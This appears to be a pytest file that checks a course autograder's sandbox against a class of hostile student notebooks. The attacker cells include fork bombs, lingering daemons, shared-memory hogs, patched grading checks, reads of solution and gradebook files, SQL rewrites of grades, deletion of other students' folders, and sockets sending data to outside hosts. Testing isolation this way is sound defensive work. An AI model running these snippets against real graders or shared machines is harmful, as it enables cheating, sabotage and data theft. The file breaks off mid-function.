"""Grading a hostile class with ``bncourse grade``: the attack matrix.

One class of Chapter 1 submissions is graded once (the fixture), with short time
limits: correct students before and after every attacker, each attacker trying
one thing - a broken or renamed notebook, tampered grade cells, endless loops and
sleeps, memory and process bombs, a process left behind, floods, crashes,
patched checks, numpy or check names, the course's reference called, subclassed
or copied, secrets read, the gradebook and other students' files written, the
network. Each test below checks one promise: the attacker gets a clear message
and the points the rules give, and no other student's grade, feedback or file
changes; the class finishes.
"""

from __future__ import annotations

import base64
import hashlib
import socket
import sqlite3
import threading
import time
from pathlib import Path

import nbformat
import pytest

from bn_reference.grading import REFERENCE_USED
from nbgrader_cycle import ROOT, bncourse, collect_results, make_course, model_and_release, write_submissions

SLUG = "ch1_feature_scaling"
CELL, NOTEBOOK = 10, 30  # seconds: the class is graded with these limits


def _grade_cells(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]


def _solution_cells(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"]


def inject(nb, code: str, cell: int = -1, at_start: bool = False):
    """``nb`` with ``code`` added to its ``cell``-th solution code cell."""
    nb = nbformat.from_dict(nb)
    target = _solution_cells(nb)[cell]
    target.source = f"{code}\n{target.source}" if at_start else f"{target.source}\n{code}"
    return nb


def replace(nb, code: str, cell: int):
    """``nb`` with its ``cell``-th solution code cell replaced by ``code``."""
    nb = nbformat.from_dict(nb)
    _solution_cells(nb)[cell].source = code
    return nb


WRONG_GRADIENT = '''
def mse_gradient(X, y, w, b):
    r = X @ w + b - y
    return X.T @ r / len(y), r.sum() / len(y)  # the factor 2 is missing
'''


def _attacks(model, release, course: Path, port: int) -> dict:
    """student -> notebook (or raw text) for every attack."""
    nb = nbformat.from_dict
    deleted = nb(model)
    deleted.cells = [c for c in deleted.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_mse_gradient"]
    edited = inject(model, WRONG_GRADIENT, cell=2)
    for c in _grade_cells(edited):
        c.source = "pass  # nothing to check here"
    points = nb(model)
    for c in _grade_cells(points):
        c.metadata["nbgrader"]["points"] = 100
    secret_paths = [course / "solutions" / SLUG / f"{SLUG}.ipynb", course / "gradebook.db",
                    course / "submitted" / "s00_c00" / SLUG / f"{SLUG}.ipynb", Path("/root"), ROOT / "solutions"]
    return {
        "corrupt": '{"cells": [ this is not JSON',
        "deleted_grade_cell": deleted,
        "edited_grade_cells": edited,
        "raised_points": points,
        "hidden_markers": inject(model, "# ### BEGIN HIDDEN TESTS\n# print('gotcha')", cell=0),
        "endless_loop": inject(model, "while True:\n    pass"),
        "swallows_interrupt": inject(model, "import time\nwhile True:\n    try:\n        time.sleep(0.5)\n"
                                            "    except KeyboardInterrupt:\n        pass"),
        "sleeps_in_every_cell": _sleepy(model),
        "big_allocation": inject(model, "hog = bytearray(6 * 2**30)"),
        "fork_storm": inject(model, FORK_STORM),
        "leaves_a_process": inject(model, DAEMON, cell=0),
        "floods_output": inject(model, "import sys\nfor _ in range(2000):\n    print('x' * 10000)\n"
                                       "    print('y' * 10000, file=sys.stderr)"),
        "os_exit": inject(model, "import os\nos._exit(3)"),
        "sys_exit": inject(model, "import sys\nsys.exit(1)", cell=0),
        "segfault": inject(model, "import ctypes\nctypes.string_at(0)"),
        "patches_grading": inject(model, WRONG_GRADIENT + PATCH_GRADING, cell=2),
        "patches_numpy": inject(model, WRONG_GRADIENT + PATCH_NUMPY, cell=2),
        "redefines_checks": inject(model, WRONG_GRADIENT + "check_mse_gradient = lambda *args, **kwargs: None\n"
                                                          "def check_gradient_descent(*args, **kwargs):\n"
                                                          "    print('all good')", cell=2),
        "calls_reference": inject(model, "from bn_reference.feature_scaling import mse_gradient as _theirs\n"
                                         "def mse_gradient(X, y, w, b):\n    return _theirs(X, y, w, b)", cell=2),
        "subclasses_reference": inject(model, "import bn_reference.feature_scaling as course\n"
                                              "class StandardScaler(course.StandardScaler):\n    pass", cell=1),
        "exec_copies_reference": replace(model, "import inspect\nimport bn_reference.feature_scaling as course\n"
                                                "exec(inspect.getsource(course.mse_gradient))", cell=2),
        "pastes_reference": inject(model, _pasted_reference(), cell=2),
        "reads_secrets": inject(model, READ_SECRETS.format(paths=[str(p) for p in secret_paths]), cell=0),
        "writes_gradebook": inject(model, WRITE_GRADEBOOK.format(db=course / "gradebook.db"), cell=0),
        "forges_files": inject(model, FORGE_FILES.format(course=course, root=ROOT), cell=0),
        "opens_sockets": inject(model, SOCKETS.format(port=port), cell=0),
        "moves_python": inject(model, MOVE_PYTHON, cell=0),
        "warns": inject(model, "import warnings\n_g = mse_gradient\ndef mse_gradient(X, y, w, b):\n"
                               "    warnings.warn('a harmless warning')\n    np.log(np.zeros(1))\n"
                               "    return _g(X, y, w, b)", cell=2),
        "displays_html": inject(model, "from IPython.display import HTML, display\n"
                                       "display(HTML('<script>document.title = \"pwned\"</script><b>bold</b>'))",
                                cell=0),
        "blank": release,
        # the second round (issue 17): forged grades, replies, resources, kernel objects
        "forges_locked_imports": _forged_locked_imports(model),
        "claims_grade_ids": _claims_grade_ids(model),
        "precomputes_hidden_answers": replace(model, _answer_table(), cell=2),
        "execs_copy_as_library": replace(model, EXEC_AS_LIBRARY.format(source=_pasted_reference()), cell=2),
        "registers_library_module": replace(model, LIBRARY_MODULE.format(
            encoded=base64.b64encode(_pasted_reference(with_helpers=True).encode()).decode()), cell=2),
        "trickles_reply": inject(model, TRICKLE),
        "amplifies_reply": inject(model, AMPLIFY),
        "forges_huge_outputs": inject(model, FORGED_OUTPUTS, cell=0),
        "nests_user_namespace": inject(model, NESTED_USERNS, cell=0),
        "hogs_shared_memory": inject(model, SHM_HOG),
        "leaves_kernel_objects": inject(model, LEAVES_KERNEL_OBJECTS, cell=0),
    }


def _forged_locked_imports(model):
    """No code of its own: every answer cell imports checks under the names the grade cells
    call, its metadata says "locked", and one more cell claims the import cell's grade id."""
    nb = nbformat.from_dict(model)
    rebind = ("from bn_reference.grading.feature_scaling import check_standard_scaler as check_mse_gradient\n"
              "from bn_exercises.feature_scaling import check_standard_scaler as check_gradient_descent\n")
    for cell in _solution_cells(nb):
        cell.source = rebind
        cell.metadata["nbgrader"]["locked"] = True
    fake = nbformat.v4.new_code_cell(rebind)
    fake.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "imports",
                                 "schema_version": 3}
    nb.cells.append(fake)
    return nb


def _claims_grade_ids(model):
    """Correct answers, plus a cell claiming a grade cell's id before the real one, and a cell
    that says it is a grade cell without an id (nbgrader's own passes raise KeyError on both)."""
    nb = nbformat.from_dict(model)
    real = next(c for c in _grade_cells(nb) if c.metadata.nbgrader["grade_id"] == "test_mse_gradient")
    twin = nbformat.v4.new_code_cell("print('this cell claims to be test_mse_gradient')")
    twin.metadata["nbgrader"] = dict(real.metadata.nbgrader)
    nameless = nbformat.v4.new_code_cell("print('a grade cell without an id')")
    nameless.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 5, "schema_version": 3}
    at = nb.cells.index(real)
    nb.cells[at:at] = [twin, nameless]
    return nb


def _answer_table() -> str:
    """An mse_gradient that computes nothing: it looks its answer up in a table of every
    visible case and of the hidden cases drawn from the test suite's own secret (what a
    learner could precompute if hidden seeds shipped with the course)."""
    import json

    from bn_reference import feature_scaling as reference
    from bn_reference.grading import feature_scaling as grading, use_secret

    table = {}
    with use_secret(TABLE_SECRET):
        cases = grading._gradient_cases(False) + grading._gradient_cases(True)
    for case in cases:
        d = case.data
        dw, db = reference.mse_gradient(d["X"], d["y"], d["w"], d["b"])
        table[_case_key(d["X"], d["y"], d["w"], d["b"])] = [list(map(float, dw)), float(db)]
    return (f"import hashlib, json\nTABLE = json.loads({json.dumps(json.dumps(table))})\n"
            f"{inspect_source(_case_key)}\n"
            "def mse_gradient(X, y, w, b):\n"
            "    dw, db = TABLE.get(_case_key(X, y, w, b), [[0.0] * X.shape[1], 0.0])\n"
            "    return np.array(dw, dtype=X.dtype), db\n")


#: The secret the table attacker "knows": the test suite's. The graded course has its own.
TABLE_SECRET = "the test suite's grading secret"


def _case_key(X, y, w, b):
    import hashlib
    import numpy as np
    parts = [np.ascontiguousarray(np.asarray(a, dtype=np.float64)).tobytes() for a in (X, y, w, [b])]
    return hashlib.sha256(b"".join(parts)).hexdigest()


def inspect_source(fn) -> str:
    import inspect
    return inspect.getsource(fn)


def _sleepy(model):
    nb = nbformat.from_dict(model)
    for c in _solution_cells(nb):
        c.source = f"import time\ntime.sleep({CELL - 1})\n{c.source}"
    return nb


def _pasted_reference(with_helpers: bool = False) -> str:
    """The course's mse_gradient, pasted with its variables renamed (what a copy from the repository looks
    like); ``with_helpers``: with the helpers it calls, so that the copy runs on its own."""
    import inspect
    import re

    from bn_reference import feature_scaling as fs
    helpers = [fs._check_matrix, fs._check_regression] if with_helpers else []
    source = "\n".join(inspect.getsource(f) for f in [*helpers, fs.mse_gradient])
    return re.sub(r"\br\b", "residual", source)


FORK_STORM = '''
import os, time
children = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError as exc:
    print(f"fork refused after {children} children: {type(exc).__name__}")
'''

DAEMON = '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for path in ("/tmp/PWNED", "/tmp/work/PWNED"):
                try:
                    open(path, "w").write("left behind by leaves_a_process")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
'''

CANARY = '''
import os
for path in ("/tmp/PWNED", "/tmp/work/PWNED"):
    print("canary:", path, os.path.exists(path))
ipc = [line for kind in ("shm", "sem", "msg") for line in open(f"/proc/sysvipc/{kind}").read().splitlines()[1:]]
print("canary: kernel objects", bool(ipc or os.listdir("/dev/shm") or os.listdir("/dev/mqueue")))
'''

EXEC_AS_LIBRARY = '''
import sys
exec(compile({source!r}, sys.prefix + "/lib/python3.11/site-packages/numpy/_local_helpers.py", "exec"))
'''

LIBRARY_MODULE = '''
import base64, sys, types
_helpers = types.ModuleType("numpy._core._gradient_helpers")
_helpers.__file__ = sys.prefix + "/lib/python3.11/site-packages/numpy/_core/_gradient_helpers.py"
_helpers.np = np
exec(compile(base64.b64decode({encoded!r}).decode(), _helpers.__file__, "exec"), vars(_helpers))
sys.modules[_helpers.__name__] = _helpers
mse_gradient = _helpers.mse_gradient
'''

FIND_SOCKETS = '''
import json, os, socket, stat, struct, time
_grader = [socket.socket(fileno=os.dup(int(fd))) for fd in os.listdir("/proc/self/fd")
           if stat.S_ISSOCK(os.fstat(int(fd)).st_mode)]  # the notebook process's line to the grader
'''

TRICKLE = FIND_SOCKETS + '''
for s in _grader:
    s.send(struct.pack("!II", 100000, 0))  # a reply of 100 kB that never finishes arriving
for _ in range(300):
    for s in _grader:
        s.send(b" ")
    time.sleep(2)
'''

AMPLIFY = FIND_SOCKETS + '''
import io
import numpy as np
buffer = io.BytesIO()
np.save(buffer, np.zeros(2**20))  # 8 MB, named 200 times: 1.6 GB once decoded
blob = buffer.getvalue()
header = json.dumps({"__dict__": [["op", "executed"], ["outputs", [{"__array__": 0}] * 200]]}).encode()
body = header + b"\\n" + json.dumps([[len(blob), "n"]]).encode() + b"\\n" + blob
for s in _grader:
    s.sendall(struct.pack("!II", len(body), 1) + body)
time.sleep(5)
'''

FORGED_OUTPUTS = FIND_SOCKETS + '''
out = {"__dict__": [["output_type", "stream"], ["name", "stdout"], ["text", "z" * 19000]]}
header = json.dumps({"__dict__": [["op", "executed"], ["outputs", [out] * 3000], ["execution_count", 1]]})
body = header.encode() + b"\\n[]\\n"  # 57 MB of output in one reply
for s in _grader:
    s.sendall(struct.pack("!II", len(body), 0) + body)
'''

NESTED_USERNS = '''
import ctypes, subprocess
mounted = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs none /mnt && echo MOUNTED"],
                         capture_output=True, text=True).stdout.strip()
print("unshare command:", mounted or "refused")
libc = ctypes.CDLL(None, use_errno=True)
print("unshare call:", "UNSHARED" if libc.unshare(0x10000000) == 0 else "refused")
'''

SHM_HOG = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for k in range(6):  # 1 GiB segments, filled and detached one by one: the address-space limit never sees them
    segment = libc.shmget(0x500 + k, ctypes.c_size_t(2**30), 0o1600)
    address = libc.shmat(segment, None, 0)
    ctypes.memset(ctypes.c_void_p(address), 1, 2**30)
    libc.shmdt(ctypes.c_void_p(address))
print("HELD 6 GiB")
'''

LEAVES_KERNEL_OBJECTS = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("left:", libc.shmget(0x4242, 4096, 0o1666), libc.semget(0x4243, 1, 0o1666), libc.msgget(0x4244, 0o1666))
librt = ctypes.CDLL("librt.so.1", use_errno=True)
print("mqueue:", librt.mq_open(b"/left_behind", os.O_CREAT | os.O_RDWR, 0o666, None))
open("/dev/shm/left_behind", "w").write("for the next student")
print("keyring:", libc.syscall(248, b"user", b"left", b"secret", 6, -4), ctypes.get_errno())
'''

PATCH_GRADING = '''
import bn_reference.grading as g
import bn_reference.grading.feature_scaling as fs
import bn_exercises.checking as checking
import bn_exercises.execution as execution
import bn_exercises.feature_scaling as learner
g.run_check = lambda *args, **kwargs: 1
fs.check_mse_gradient = lambda *args, **kwargs: None
learner._run_gradient = lambda fn, case: {"dw": None, "db": None}
checking.judge = lambda *args, **kwargs: None
execution.call_student = lambda *args, **kwargs: None
'''

PATCH_NUMPY = '''
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
'''

READ_SECRETS = '''
import os
for path in {paths}:
    try:
        if os.path.isdir(path):
            print("LISTED", path, os.listdir(path))
        else:
            print("READ", path, open(path, "rb").read()[:200])
    except Exception as exc:
        print("refused:", path, type(exc).__name__)
'''

WRITE_GRADEBOOK = '''
import sqlite3
try:
    db = sqlite3.connect("{db}")
    db.execute("UPDATE grade SET auto_score = 100")
    db.commit()
    print("WROTE THE GRADEBOOK")
except Exception as exc:
    print("gradebook refused:", type(exc).__name__)
'''

FORGE_FILES = '''
import glob, os, shutil
for target in ["{course}/nbgrader_config.py", "{course}/submitted/s00_c00/ch1_feature_scaling/ch1_feature_scaling.ipynb",
               "{root}/bn_reference/grading/__init__.py", "{root}/bn_reference/feature_scaling.py"]:
    try:
        with open(target, "a") as f:
            f.write("\\nFORGED = True\\n")
        print("WROTE", target)
    except Exception as exc:
        print("write refused:", target, type(exc).__name__)
for folder in ["{course}/submitted", "{course}/feedback", "{course}/autograded"]:
    try:
        shutil.rmtree(folder)
        print("DELETED", folder)
    except Exception as exc:
        print("delete refused:", folder, type(exc).__name__)
'''

SOCKETS = '''
import socket
for host, port in [("127.0.0.1", {port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"EXFILTRATED")
        print("CONNECTED", host, port)
    except OSError as exc:
        print("no network:", host, type(exc).__name__)
'''


MOVE_PYTHON = '''
import os, sys
for folder in [sys.prefix, sys.base_prefix, os.path.dirname(os.__file__)]:
    parent = os.path.dirname(folder)
    for attempt, act in [("rename", lambda: os.rename(parent, parent + "_moved")),
                         ("plant", lambda: open(os.path.join(parent, "planted.py"), "w").write("x = 1"))]:
        try:
            act()
            print("MOVED", attempt, parent)
        except OSError as exc:
            print("move refused:", attempt, type(exc).__name__)
'''


#: What a copy of students' folders may hold besides notebooks: links to the solutions, to another
#: student's folder, to the instructor's private file and to /dev/zero, a pipe, a folder named like
#: a notebook, and a notebook of tens of thousands of cells. Each is refused at the import.
ODD = {"links_solution": "symbolic link", "links_folder": "symbolic link", "links_secret": "symbolic link",
       "links_dev_zero": "symbolic link", "pipe": "not a regular file", "folder_notebook": "not a regular file",
       "many_cells": "cells; at most 1000 are graded"}


def _odd_files(incoming: Path, tmp: Path, course: Path, model) -> dict:
    import os

    secret = tmp / "instructor_notes.txt"
    secret.write_text("the instructor's private notes")
    secret.chmod(0o600)
    folders = {name: incoming / f"z_{name}" / SLUG for name in ODD}
    for folder in folders.values():
        folder.parent.mkdir()
    folders["links_solution"].mkdir()
    (folders["links_solution"] / f"{SLUG}.ipynb").symlink_to(course / "solutions" / SLUG / f"{SLUG}.ipynb")
    folders["links_folder"].symlink_to(next(incoming.glob(f"*_c00/{SLUG}")), target_is_directory=True)
    folders["links_secret"].mkdir()
    (folders["links_secret"] / f"{SLUG}.ipynb").symlink_to(secret)
    folders["links_dev_zero"].mkdir()
    (folders["links_dev_zero"] / f"{SLUG}.ipynb").symlink_to("/dev/zero")
    folders["pipe"].mkdir()
    os.mkfifo(folders["pipe"] / f"{SLUG}.ipynb")
    (folders["folder_notebook"] / f"{SLUG}.ipynb").mkdir(parents=True)
    folders["many_cells"].mkdir()
    huge = nbformat.from_dict(model)
    huge.cells += [nbformat.v4.new_code_cell(f"x = {i}") for i in range(20_000)]
    nbformat.write(huge, folders["many_cells"] / f"{SLUG}.ipynb")
    return {name: f"z_{name}" for name in ODD}


def _digests(*folders: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest()
            for folder in folders for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the grading machine's 127.0.0.1 that records every connection."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                seen.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], seen
    stop.set()
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    port, seen = listener
    tmp = tmp_path_factory.mktemp("hostile_class")
    course = make_course(tmp, [SLUG])
    model, release = model_and_release(course, SLUG)
    attacks = _attacks(model, release, course, port)
    honest = {f"c{i:02d}": inject(model, CANARY, cell=0) for i in range(12)}
    order = list(honest)[:2]  # correct students before, between and after the attackers
    for i, attacker in enumerate(attacks):
        order += [attacker, *([list(honest)[2 + i // 3]] if i % 3 == 2 and 2 + i // 3 < len(honest) else [])]
    order += [s for s in honest if s not in order]
    # graded in this order (the grader takes students alphabetically): s00_c00, s01_c01, s02_corrupt, ...
    ids = {name: f"s{i:02d}_{name}" for i, name in enumerate([*order, "renamed"])}
    incoming = tmp / "incoming"
    write_submissions(incoming, SLUG, {ids[s]: {**honest, **attacks}[s] for s in order})
    renamed = incoming / ids["renamed"] / SLUG
    renamed.mkdir(parents=True)
    nbformat.write(model, renamed / "My notebook (1).ipynb")
    result_import = _odd_files(incoming, tmp, course, model)
    config_before = (course / "nbgrader_config.py").read_bytes()
    started = time.monotonic()
    proc = bncourse(course, "grade", SLUG, str(incoming), "--cell-timeout", str(CELL),
                    "--notebook-timeout", str(NOTEBOOK))
    seconds = time.monotonic() - started
    result = collect_results(course, SLUG, list(ids.values()), proc, "")
    names = {v: k for k, v in ids.items()}
    for field in ("scores", "feedback", "results"):
        setattr(result, field, {names.get(k, k): v for k, v in getattr(result, field).items()})
    result.seconds, result.honest, result.attacks, result.seen, result.ids = seconds, list(honest), attacks, seen, ids
    result.repository_forged = [p for p in ("bn_reference/grading/__init__.py", "bn_reference/feature_scaling.py")
                                if "FORGED" in (ROOT / p).read_text()]
    result.config_unchanged = config_before == (course / "nbgrader_config.py").read_bytes()
    result.submitted_before = _digests(*(incoming / student for student in ids.values()))
    result.odd = result_import
    result.autograded = {name: nbformat.read(p, as_version=4) for name, s in ids.items()
                         if (p := course / "autograded" / s / SLUG / f"{SLUG}.ipynb").is_file()}
    return result


def _full(graded) -> float:
    return graded.scores["c00"][1]


def _points_before_the_last_check(graded, student) -> float:
    """The points an attack in the last solution cell (``inject``'s default) leaves its author:
    those of every grade cell before the one that follows that cell."""
    cells = graded.autograded[student].cells
    last = cells.index(_solution_cells(graded.autograded[student])[-1])
    after = next(c for c in cells[last:] if c in _grade_cells(graded.autograded[student]))
    return _points_before(graded, student, after.metadata.nbgrader["grade_id"])


def _points_before(graded, student, grade_id) -> float:
    """The points of the grade cells before ``grade_id`` (which the attacker keeps)."""
    points = 0.0
    for cell in _grade_cells(graded.autograded[student]):
        if cell.metadata.nbgrader["grade_id"] == grade_id:
            return points
        points += float(cell.metadata.nbgrader["points"])
    raise AssertionError(grade_id)


def _text(graded, student) -> str:
    return graded.feedback[student].replace("&#39;", "'").replace("&quot;", '"')


def _outputs(nb) -> str:
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) + str(o.get("data", {}).get("text/plain", ""))
                     for c in nb.cells if c.cell_type == "code" for o in c.outputs)


# --- the class as a whole ---------------------------------------------------------

def test_every_honest_student_gets_full_marks_and_the_same_verdicts(graded):
    full = _full(graded)
    assert full > 0
    reference = [(c.metadata.nbgrader["grade_id"], [o.get("text", "") for o in c.outputs])
                 for c in _grade_cells(graded.autograded["c00"])]
    for student in [*graded.honest, "renamed"]:
        assert graded.scores[student] == (full, full), (student, graded.log[-3000:])
        verdicts = [(c.metadata.nbgrader["grade_id"], [o.get("text", "") for o in c.outputs])
                    for c in _grade_cells(graded.autograded[student])]
        assert verdicts == reference, student


def test_nothing_is_left_behind_between_notebooks(graded):
    """No file, process, shared-memory segment, semaphore, message queue or /dev/shm file of
    one notebook reaches the next (the honest students graded after each attacker look)."""
    for student in graded.honest:
        canaries = [line for line in _outputs(graded.autograded[student]).splitlines() if line.startswith("canary:")]
        assert len(canaries) == 3 and all(line.endswith("False") for line in canaries), (student, canaries)


def test_the_class_finishes_and_says_who_was_not_graded(graded):
    assert graded.exit_code == 2, graded.log[-3000:]  # files of the import were refused (and someone not graded)
    assert f"NOT GRADED {graded.ids['corrupt']}: the notebook is not valid JSON" in graded.log
    assert "Graded" in graded.log and graded.seconds < 900
    print(f"hostile class of {len(graded.ids)} notebooks graded in {graded.seconds:.1f} s")


@pytest.mark.parametrize("odd", sorted(ODD))
def test_links_pipes_folders_and_huge_notebooks_are_refused_at_the_import(graded, odd):
    """Nothing that is not a regular notebook inside the submissions folder is read: the
    solutions, another student's work and the instructor's private file stay out of
    downloaded/, submitted/ and the feedback; the import neither hangs nor fills memory."""
    student = graded.odd[odd]
    assert any(line.strip().startswith(f"- {student}") and ODD[odd] in line
               for line in graded.log.splitlines()), graded.log[-4000:]
    assert not (graded.course / "submitted" / student).exists()
    copied = [p.read_bytes() for folder in ("downloaded", "submitted", "feedback")
              for p in (graded.course / folder).rglob("*") if p.is_file()]
    assert not any(b"instructor's private notes" in data or b"BEGIN SOLUTION" in data for data in copied)


def test_no_file_is_lost_or_changed(graded):
    submitted = graded.course / "submitted"
    for path, digest in graded.submitted_before.items():
        student = Path(path).parts[-3]
        if student == graded.ids["renamed"]:
            continue
        copy = submitted / student / SLUG / f"{SLUG}.ipynb"
        assert hashlib.sha256(copy.read_bytes()).hexdigest() == digest, student
    assert graded.repository_forged == [] and graded.config_unchanged


def test_the_gradebook_holds_only_what_the_grader_wrote(graded):
    with sqlite3.connect(graded.course / "gradebook.db") as db:
        assert db.execute("SELECT COUNT(*) FROM grade WHERE auto_score > 10").fetchone()[0] == 0
    assert "WROTE THE GRADEBOOK" not in _outputs(graded.autograded["writes_gradebook"])


# --- broken and odd notebooks ----------------------------------------------------------

def test_a_corrupt_notebook_is_reported_and_kept(graded):
    assert graded.scores["corrupt"] in (None, (0.0, _full(graded)))
    assert (graded.course / "submitted" / graded.ids["corrupt"] / SLUG / f"{SLUG}.ipynb").read_text().startswith(
        '{"cells"')


def test_a_notebook_under_another_name_is_found_and_graded(graded):
    assert graded.scores["renamed"] == (_full(graded), _full(graded))
    assert f"{graded.ids['renamed']}: graded My notebook (1).ipynb as ch1_feature_scaling.ipynb" in graded.log


def test_deleted_edited_and_inflated_grade_cells_are_restored(graded):
    full = _full(graded)
    assert graded.scores["deleted_grade_cell"] == (full, full)
    assert "test_mse_gradient" in [c.metadata.nbgrader["grade_id"]
                                   for c in _grade_cells(graded.autograded["deleted_grade_cell"])]
    assert graded.scores["raised_points"] == (full, full)
    assert graded.scores["edited_grade_cells"][0] < full
    assert "the factor 2 is missing" in _text(graded, "edited_grade_cells")
    # the instructor is told who tampered, and not about the grade cells every release differs in
    summary = graded.log.split("nbgrader's warnings")[1]
    assert graded.ids["edited_grade_cells"] in summary and graded.ids["raised_points"] in summary
    assert graded.ids["c00"] not in summary


def test_hidden_test_markers_in_a_solution_cell_are_just_text(graded):
    assert graded.scores["hidden_markers"] == (_full(graded), _full(graded))
    assert graded.feedback["hidden_markers"]


# --- time, memory, processes, output ------------------------------------------------------

def test_an_endless_loop_costs_one_cell_not_the_notebook(graded):
    assert graded.scores["endless_loop"] == (_full(graded), _full(graded))  # the function was defined before it
    assert f"ran longer than the {CELL} s limit" in _text(graded, "endless_loop")


def test_a_loop_that_swallows_the_interrupt_is_stopped(graded):
    kept = _points_before_the_last_check(graded, "swallows_interrupt")
    assert graded.scores["swallows_interrupt"][0] == kept
    assert "did not stop when interrupted" in _text(graded, "swallows_interrupt")


def test_sleeping_just_under_the_cell_limit_meets_the_notebook_limit(graded):
    assert graded.scores["sleeps_in_every_cell"][0] < _full(graded)
    assert f"{NOTEBOOK} s" in _text(graded, "sleeps_in_every_cell")


def test_a_huge_allocation_fails_inside_the_notebook(graded):
    assert graded.scores["big_allocation"] == (_full(graded), _full(graded))
    assert "MemoryError" in _text(graded, "big_allocation") and "at most 2 GiB" in _text(graded, "big_allocation")


def test_a_fork_storm_is_bounded(graded):
    outputs = _outputs(graded.autograded["fork_storm"])
    assert "fork refused after" in outputs and "BlockingIOError" in outputs
    assert int(outputs.split("fork refused after ")[1].split()[0]) < 100


def test_floods_are_cut_and_cost_nothing(graded):
    assert graded.scores["floods_output"] == (_full(graded), _full(graded))
    assert "output truncated" in _outputs(graded.autograded["floods_output"])
    assert len(graded.feedback["floods_output"]) < 2_000_000


# --- crashes ---------------------------------------------------------------------------------

@pytest.mark.parametrize("student, says", [("os_exit", "exited with code 3"), ("segfault", "segmentation fault")])
def test_a_dead_process_keeps_the_points_earned_before_it(graded, student, says):
    kept = _points_before_the_last_check(graded, student)
    assert graded.scores[student][0] == kept > 0
    assert says in _text(graded, student) and "cells before it keep their results" in _text(graded, student)


def test_sys_exit_is_an_error_in_one_cell(graded):
    assert graded.scores["sys_exit"] == (_full(graded), _full(graded))


# --- the checks cannot be talked into passing ------------------------------------------------

@pytest.mark.parametrize("student", ["patches_grading", "patches_numpy", "redefines_checks"])
def test_patching_the_checks_or_numpy_changes_nothing(graded, student):
    assert graded.scores[student][0] < _full(graded)
    verdicts = {t["task"]: t for t in graded.results[student]["tasks"]}
    assert verdicts["mse_gradient"]["misconception"] == "the factor 2 is missing"
    assert verdicts["gradient_descent"]["status"] == "failed"


@pytest.mark.parametrize("student, task", [("calls_reference", "mse_gradient"), ("pastes_reference", "mse_gradient"),
                                           ("subclasses_reference", "standard_scaler")])
def test_the_reference_is_not_a_way_to_pass(graded, student, task):
    verdicts = {t["task"]: t for t in graded.results[student]["tasks"]}
    assert verdicts[task]["status"] == "failed" and verdicts[task]["misconception"] == REFERENCE_USED, verdicts
    assert verdicts["hessian_condition_number"]["status"] == "passed"  # their own code elsewhere still counts
    assert graded.scores[student][0] < _full(graded)


def test_an_exec_copy_finds_no_source(graded):
    text = _text(graded, "exec_copies_reference")
    assert "ReferenceNotAvailable" in text and "not available while grading" in text
    assert graded.scores["exec_copies_reference"][0] < _full(graded)


# --- what a submission can see and touch --------------------------------------------------------

def test_secrets_stay_out_of_reach_and_out_of_the_feedback(graded):
    outputs = _outputs(graded.autograded["reads_secrets"])
    assert "READ" not in outputs and "LISTED" not in outputs and outputs.count("refused:") == 5
    assert "BEGIN SOLUTION" not in graded.feedback["reads_secrets"]


def test_other_students_files_and_the_configuration_cannot_be_touched(graded):
    outputs = _outputs(graded.autograded["forges_files"])
    assert "WROTE" not in outputs and "DELETED" not in outputs
    assert outputs.count("refused:") == 7


def test_the_python_that_later_notebooks_import_from_cannot_be_moved(graded):
    outputs = _outputs(graded.autograded["moves_python"])
    assert "MOVED" not in outputs and outputs.count("move refused:") == 6


def test_no_network_not_even_the_graders_loopback(graded):
    outputs = _outputs(graded.autograded["opens_sockets"])
    assert "CONNECTED" not in outputs and outputs.count("no network:") == 3
    assert graded.seen == []


# --- honest quirks cost nothing ------------------------------------------------------------------

def test_a_correct_answer_that_warns_loses_nothing(graded):
    assert graded.scores["warns"] == (_full(graded), _full(graded))
    assert "a harmless warning" in _text(graded, "warns") and "costs no points" in _text(graded, "warns")


def test_html_and_scripts_never_reach_the_feedback(graded):
    assert "<script>document.title" not in graded.feedback["displays_html"]
    assert graded.scores["displays_html"] == (_full(graded), _full(graded))


def test_the_misconception_report_counts_the_class(graded):
    report = (graded.course / "reports" / SLUG / "misconceptions.csv").read_text()
    assert "mse_gradient,the factor 2 is missing" in report
    assert "the course's reference implementation used instead of your own code" in report
    assert "could not be graded" in report


def test_a_grader_failure_never_gives_marks():
    """A notebook the grader could not run (its sandbox died, a course bug) gets an error in
    every grade cell - nbgrader scores a grade cell without output as passed."""
    from types import SimpleNamespace

    from nbgrader.utils import determine_grade

    from bncourse.autograde import ClassRun, SandboxExecute

    nb = nbformat.read(ROOT / "exercises" / SLUG / f"{SLUG}.ipynb", as_version=4)
    failed = {"outputs": {}, "execution_counts": {}, "stopped": "the sandbox failed", "failed": True}
    ClassRun.current = SimpleNamespace(result_for=lambda student, notebook, nb: failed)
    try:
